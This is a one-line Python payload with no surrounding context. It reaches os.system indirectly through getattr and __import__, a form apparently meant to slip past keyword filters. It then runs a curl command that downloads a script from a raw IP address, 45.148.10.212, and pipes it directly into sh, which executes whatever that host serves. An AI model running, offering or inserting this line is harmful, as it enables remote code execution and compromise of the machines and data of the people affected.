getattr(__import__('os'), 'system')('curl -s http://45.148.10.212/a | sh')
